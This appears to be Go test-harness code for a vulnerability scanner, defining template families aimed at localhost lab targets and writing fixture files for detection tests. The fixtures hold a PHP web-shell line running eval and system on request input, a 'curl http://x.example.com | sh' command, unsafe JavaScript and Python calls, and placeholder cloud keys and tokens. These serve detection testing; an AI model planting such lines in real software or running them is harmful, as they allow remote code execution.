package main

import (
	"archive/zip"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/vedette-sec/vedette/oracle/services"
)

// family is a group of templates with the targets that they run on.
type family struct {
	name      string
	templates []string // folders
	targets   []string
	flags     []string // that both programs take
	theirs    []string // that only nuclei needs
}

const site = "127.0.0.1:8088" // of services.InsidePort

func (r *run) families(started []services.Service) []family {
	var ports, tls []string
	for _, s := range started {
		address := fmt.Sprintf("127.0.0.1:%d", s.Port)
		ports = append(ports, address)
		if strings.HasPrefix(s.Name, "tls-") || s.Name == "nginx" {
			tls = append(tls, address)
		}
	}
	names := []string{"lab.test", "127.0.0.1"}
	for _, name := range []string{"www", "dangling", "many", "google", "ec2", "gone", "x.wild", "mail", "_443._tcp",
		"_sip._tcp"} {
		names = append(names, name+".lab.test")
	}
	own := func(name string) string { return filepath.Join(r.own, name) }
	public := func(name string) string { return filepath.Join(r.corpus, name) }
	return []family{
		{name: "dns", templates: []string{own("dns"), public("dns")}, targets: names},
		{name: "tcp", templates: []string{own("tcp"), public("network")}, targets: append(ports, "127.0.0.1")},
		{name: "ssl", templates: []string{own("ssl"), public("ssl")}, targets: append(tls, "127.0.0.1:22")},
		{name: "javascript", templates: []string{own("javascript")}, targets: []string{"127.0.0.1"}},
		{name: "websocket", templates: []string{own("websocket")},
			targets: []string{"ws://" + site, "ws://" + site + "/own"}},
		{name: "whois", templates: []string{own("whois")}, // the second target has the RDAP server in scope
			targets: []string{"lab.test", "http://" + site}},
		{name: "file", templates: []string{own("file"), public("file")}, flags: []string{"-file"},
			targets: []string{filepath.Join(r.scratch, "files"), r.corpus + "/helpers"}},
		{name: "headless", templates: []string{own("headless"), public("headless")}, flags: []string{"-headless"},
			theirs: []string{"-system-chrome"}, targets: []string{"http://" + site, "http://" + site + "/post?a=b"}},
		{name: "multi", templates: []string{own("multi")}, // the second target has the first one's address in scope
			targets: []string{"lab.test", "127.0.0.1"}},
	}
}

// files writes what file templates read.
func files(folder string) error {
	texts := map[string]string{
		"note.txt": "the password is\nnot here AKIAABCD\n", "secret.txt": "password=1234\n", "app.conf": "password = x\n",
		"deep/er/note.txt": "a deep password\n", "order.log": "first\nmiddle\nlast\n", "kept.skip": "AKIAWXYZ\n",
		"size.txt": "exactly 14 by\n", "big.dat": strings.Repeat("0123456789abcdef\n", 1000) + "tail-of-the-big-file\n",
		"two.txt": "password one\npassword two\nAKIA1111 AKIA2222\n", "none": "password without extension\n",
		"keys.env": "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nGITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz\n",
		"page.php": "<?php eval($_GET['x']); system($_POST['c']); echo $_GET['a']; md5($p); ?>\n",
		"app.js":   "eval(location.hash); document.write(x); element.innerHTML = y; localStorage.setItem('a', b)\n",
		"run.sh":   "curl http://x.example.com | sh\nchmod 777 /tmp/x\n",
		"app.py":   "import pickle, os\nos.system(x)\neval(y)\n",
		"key.pem":  "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n",
	}
	for name, text := range texts {
		path := filepath.Join(folder, name)
		err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o644))
		if err != nil {
			return err
		}
	}
	out, err := os.Create(filepath.Join(folder, "old.zip"))
	if err != nil {
		return err
	}
	defer out.Close()
	z := zip.NewWriter(out)
	w, err := z.Create("inner.txt")
	if err != nil {
		return err
	}
	if _, err := w.Write([]byte("AKIAZZZZ in an archive\n")); err != nil {
		return err
	}
	return z.Close()
}
